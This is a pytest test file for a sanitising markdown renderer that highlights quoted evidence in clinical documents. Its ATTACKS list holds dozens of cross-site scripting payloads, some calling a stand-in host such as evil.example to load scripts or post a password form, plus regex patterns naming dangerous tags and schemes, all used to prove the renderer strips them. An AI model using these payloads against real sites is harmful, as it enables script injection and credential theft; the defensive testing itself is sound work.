"""Authors' text never becomes script, whatever it tries; quotes are marked in what people see."""

import re
import time

import pytest

from app.services.documents import Mark, place_evidence, render_document, stripped_html, unplaced_marks

DANGEROUS = re.compile(r"<script|<svg|<img|<iframe|<object|<style|<form|<input|<link|<meta|<base|<math", re.IGNORECASE)
DANGEROUS_ATTRIBUTE = re.compile(r"<[^>]*\s(?:on\w+|style|class|id|srcdoc|formaction)\s*=", re.IGNORECASE)
DANGEROUS_LINK = re.compile(r"<[^>]*(?:javascript|data|vbscript|file|mailto)\s*:", re.IGNORECASE)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](http://evil.example/pixel.png)",
    '![x" onerror="alert(1)](y.png)',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='java\nscript:alert(1)'>x</a>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<b onclick=alert(1)>x</b>",
    "<p style='position:fixed;top:0'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table><td background=javascript:alert(1)>x</table>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
    "<<script>script>alert(1)<</script>/script>",
    "\x02script\x03<script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0><base href=//evil.example>",
]


def assert_harmless(html):
    assert not DANGEROUS.search(html)
    assert not DANGEROUS_ATTRIBUTE.search(html)
    assert not DANGEROUS_LINK.search(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack):
    assert_harmless(render_document(f"Before.\n\n{attack}\n\nAfter."))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_marking(attack):
    html = render_document(f"Before {attack} after", [Mark("ev-1", "Before", attack), Mark("ev-2", attack, attack)])
    without_marks = re.sub(r'<mark(?: id="ev-\d")? data-mark="ev-\d" data-row="[^"<>]*">', "", html)
    assert "<mark" not in without_marks
    assert_harmless(without_marks)


@pytest.mark.parametrize("name", ['"><script>alert(1)</script>', "a b", "", "1x", "x" * 65, "ev\n1"])
def test_the_id_of_a_mark_is_plain_or_refused(name):
    with pytest.raises(ValueError, match="can't be the id"):
        render_document("text", [Mark(name, "text")])


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** *b*", "<p><strong>a</strong> <em>b</em></p>"),
        ("H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>"),
        ("BP <120 & >80", "<p>BP &lt;120 &amp; &gt;80</p>"),
        ("# A\n\n###### B", "<h3>A</h3>\n<h6>B</h6>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("[g](https://x.example/)", '<p><a href="https://x.example/" rel="noopener noreferrer nofollow">g</a></p>'),
        ("[g](notes.html)", '<p><a href="notes.html" rel="noopener noreferrer nofollow">g</a></p>'),
    ],
)
def test_what_a_record_needs_is_kept(text, html):
    assert render_document(text) == html
    assert stripped_html(text) == ()


def test_a_list_right_after_a_line_of_text_is_a_list():
    html = render_document("**Exam:** alert\n- heart: regular\n- lungs: clear\n\nDone")
    assert "<p><strong>Exam:</strong> alert</p>" in html
    assert html.count("<li>") == 2


def test_lines_that_begin_with_a_label_stay_lines():
    html = render_document("**Meds:** none\n**Allergies:** latex,\nnitrile gloves used")
    assert html.count("<br>") == 1
    assert "none<br>\n<strong>Allergies:</strong> latex,\nnitrile" in html


def test_tables_keep_their_alignment_without_styles():
    html = render_document("| Test | Value |\n|---|--:|\n| Na | 138 |\n")
    assert '<td align="right">138</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "piece"),
    [
        ("<script>x</script>", "<script>"),
        ("a <b onclick='x'>b</b>", '<b onclick="x">'),
        ("[x](javascript:y)", '<a href="javascript:y">'),
        ("![scan](scan.png)", '<img alt="scan" src="scan.png">'),
        ("<!-- note -->", "<!-- note -->"),
        ("<div>x</div>", "<div>"),
        ("<dale@example.org>", '<a href="mailto:dale@example.org">'),
    ],
)
def test_what_would_be_stripped_is_named(text, piece):
    assert piece in stripped_html(text)


def test_a_quote_is_marked_where_it_stands():
    assert render_document("A mole on the back.", [Mark("ev-1", "mole on", "dx 1")]) == (
        '<p>A <mark id="ev-1" data-mark="ev-1" data-row="dx 1">mole on</mark> the back.</p>'
    )


def test_white_space_and_line_breaks_do_not_matter():
    html = render_document("A mole\non   the back.", [Mark("ev-1", "mole on the  back")])
    assert '<mark id="ev-1" data-mark="ev-1" data-row="">mole\non   the back</mark>.' in html


def test_a_quote_across_tags_is_marked_in_pieces_with_one_id():
    html = render_document("**Finding:** a mole.", [Mark("ev-1", "Finding: a mole", "dx 1")])
    assert html == (
        '<p><strong><mark id="ev-1" data-mark="ev-1" data-row="dx 1">Finding:</mark></strong>'
        '<mark data-mark="ev-1" data-row="dx 1"> a mole</mark>.</p>'
    )


def test_a_quote_may_hold_the_documents_own_emphasis():
    assert unplaced_marks("**Finding:** a mole.", [Mark("ev-1", "**Finding:** a mole")]) == ()


def test_a_quote_may_cross_list_items_and_cells():
    text = "- one\n- two\n\n| a | b |\n|---|---|\n| c | d |\n"
    marks = [Mark("m-1", "one two"), Mark("m-2", "c d")]
    assert unplaced_marks(text, marks) == ()
    html = render_document(text, marks)
    assert html.count('data-mark="m-1"') == 2
    assert "<ul><mark" not in html.replace("\n", "")


def test_overlapping_quotes_nest():
    html = render_document("one two three", [Mark("a", "one two"), Mark("b", "two three")])
    assert html == (
        '<p><mark id="a" data-mark="a" data-row="">one </mark>'
        '<mark data-mark="a" data-row=""><mark id="b" data-mark="b" data-row="">two</mark></mark>'
        '<mark data-mark="b" data-row=""> three</mark></p>'
    )


def test_the_same_quote_twice_and_a_missing_one():
    marks = [Mark("a", "one"), Mark("b", "one"), Mark("c", "four")]
    assert unplaced_marks("one two", marks) == (marks[2],)
    html = render_document("one two", marks)
    assert html.count(">one<") == 1
    assert 'id="c"' not in html


def test_marking_changes_nothing_but_marks():
    text = "# T\n\nA & B < C “x” &copy; **b** `c <d>`\n\n| a | b |\n|---|---|\n| 1 < 2 | 3 |\n"
    html = render_document(text, [Mark("a", "B < C"), Mark("b", "1 < 2")])
    assert re.sub(r"</?mark[^>]*>", "", html) == render_document(text)
    assert place_evidence(render_document(text), []) == render_document(text)


@pytest.mark.parametrize("odd", ["[", "![[", "[a](", "<a ", ">", "- ", "`", "*a ", "**", "|", "&", "\\", "_a_"])
def test_odd_text_is_quick_and_never_fails(odd):
    start = time.perf_counter()
    html = render_document(odd * 10_000)
    assert time.perf_counter() - start < 10
    assert_harmless(html)


def test_deep_nesting_is_shown_as_typed():
    text = "\n".join("    " * depth + "- <b>a" for depth in range(300))
    html = render_document(text, [Mark("ev-1", "- <b>a")])
    assert html.startswith("<pre><mark")
    assert "&lt;b&gt;a" in html
